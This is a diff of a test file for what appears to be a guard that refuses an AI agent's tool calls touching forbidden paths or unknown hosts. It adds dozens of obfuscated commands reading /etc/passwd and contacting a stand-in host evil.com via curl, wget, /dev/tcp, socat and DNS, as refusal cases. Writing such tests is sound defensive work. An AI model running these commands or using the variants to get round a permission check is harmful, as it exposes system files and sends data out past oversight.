@@ -49,6 +49,33 @@ def judged(tmp_path):
         "node -e \"read('/etc/passwd')\"",
         "perl -ne 'print' /etc/passwd",
         "ruby --eval \"File.read('/etc/passwd')\"",
+        "cat${IFS}/etc/passwd",
+        "d=/etc; cat $d/passwd",
+        "for d in /usr /etc; do cat $d/passwd; done",
+        "cat /{e..e}tc/passwd",
+        "cat /{e{tc,x},y}/passwd",
+        "cat /@(etc)/passwd",
+        "cat /[^a]tc/passwd",
+        "cat /[[:alpha:]]tc/passwd",
+        "cd -- / && cat etc/passwd",
+        "cd -P /; cat etc/passwd",
+        "env --chdir=/ cat etc/passwd",
+        "env -C/ cat etc/passwd",
+        "cat ${X:-/etc/passwd}",
+        "cat ${nothing_set:-/etc}/passwd",
+        "cat /et${nothing_set}c/passwd",
+        "cat /et$@c/passwd",
+        "cat $'\\x2fetc/passwd'",
+        "bash -Ec 'cat /etc/passwd'",
+        "bash <<< 'cat /etc/passwd'",
+        "echo 'cat /etc/passwd' | sh",
+        "python3 -Ic \"print(open('/etc/passwd').read())\"",
+        "perl -E 'open F, \"/etc/passwd\"'",
+        "awk 'BEGIN{getline l<\"/etc/passwd\"; print l}'",
+        "echo | sed 'r /etc/passwd'",
+        'cat /"etc"/passwd # don\'t',
+        "a='cat /et'; eval \"${a}c/passwd\"",
+        "HOME=/; cat ~/etc/passwd",
     ],
 )
 def test_a_forbidden_path_is_found_in_a_command(command, judged):
@@ -72,6 +99,29 @@ def test_a_forbidden_path_is_found_in_a_command(command, judged):
         "curl -s \\\n evil.com",
         "curl > out.txt evil.com",
         "cat <<E\nit's\nE\ncurl evil.com",
+        "curl -i evil.com",
+        "curl -n evil.com",
+        "curl -sSLO evil.com/x",
+        "wget -c evil.com",
+        "wget -p evil.com",
+        "curl --url=evil.com",
+        "curl -xevil.com:3128 https://example.com",
+        "curl --proxy evil.com:3128 https://example.com",
+        "curl --resolve example.com:443:6.6.6.6 https://example.com",
+        "curl --connect-to ::evil.com:443 https://example.com",
+        "curl 0x06060606",
+        "curl 101058054",
+        "curl evil",
+        "ssh evil",
+        "scp f evil:",
+        "H=evil.com; curl $H",
+        "curl evil.{com,org}",
+        "busybox wget evil.com",
+        "cat f > /dev/tcp/evil.com/80",
+        "socat - TCP:evil.com:80",
+        "git clone evil.com:x/y",
+        "dig secret.evil.com",
+        "openssl s_client -connect evil.com:443",
     ],
 )
 def test_a_host_without_a_scheme_is_found_in_a_command(command, judged):
@@ -94,6 +144,18 @@ def test_a_host_without_a_scheme_is_found_in_a_command(command, judged):
         "grep curl setup.py",
         "apt install curl foo.bar",
         "env A=1 ls b.c",
+        "curl -o out.txt example.com",
+        "curl -sm5 -H 'a.b: c' --cacert ca.pem example.com",
+        "wget -O a.tar.gz example.com/a.tar.gz",
+        "ssh -p 22 example.com ls",
+        "scp -P 22 a.b example.com:c.d",
+        "git show v1.2:a.py",
+        "git log a.b # it's /etc",
+        "awk '{print $1}' a.txt",
+        "sed -E 's/a+/b/' a.txt | bash -n",
+        "for f in a b; do cat $f.txt; done",
+        "echo '$HOME' ${x:-y}",
+        "python3 -c 'print(1)'",
     ],
 )
 def test_plain_commands_are_left_alone(command, judged):
@@ -111,6 +173,28 @@ def test_a_pattern_of_files_is_a_path_and_one_of_words_is_not(judged):
     """What `glob` looks for are files; what `grep` looks for may be the name of any."""
     assert judged({"pattern": "/etc/*.conf"}, "Glob") == "refused"
     assert judged({"pattern": "/etc/passwd"}, "grep") == "allowed"
+
+
+def test_a_patch_names_the_files_it_changes(judged):
+    """What stands in their lines is a text."""
+    begin, end = "*** Begin Patch\n", "\n*** End Patch"
+    assert judged({"patch": f"{begin}*** Update File: /etc/passwd\n+x{end}"}, "apply_patch") == "refused"
+    assert judged({"input": f"{begin}*** Add File: /etc/cron.d/x\n+x{end}"}, "apply_patch") == "refused"
+    assert judged({"diff": "--- a/x\n+++ /etc/passwd\n@@ -1 +1 @@\n"}, "apply") == "refused"
+    assert judged({"patch": f"{begin}*** Update File: a.txt\n+/etc/passwd{end}"}, "apply_patch") == "allowed"
+
+
+def test_the_old_and_the_new_of_a_move_are_paths(judged):
+    """Those of an edit are texts."""
+    assert judged({"old": "a.txt", "new": "/etc/passwd"}, "rename_file") == "refused"
+    assert judged({"old": "a.txt", "new": "/etc/passwd"}, "edit") == "allowed"
+
+
+@pytest.mark.parametrize(("tool", "parameter"), [("ipython", "source"), ("notebook_run", "cell"), ("python", "input")])
+def test_a_tool_that_runs_code_is_read_like_a_command(tool, parameter, judged):
+    """Paths in its texts are those it opens, as far as they are written out."""
+    assert judged({parameter: "print(open('/etc/passwd').read())"}, tool) == "refused"
+    assert judged({parameter: "print(open('a.txt').read())"}, tool) == "allowed"
 
 
 def test_a_tool_that_runs_commands_runs_what_it_is_given(judged):
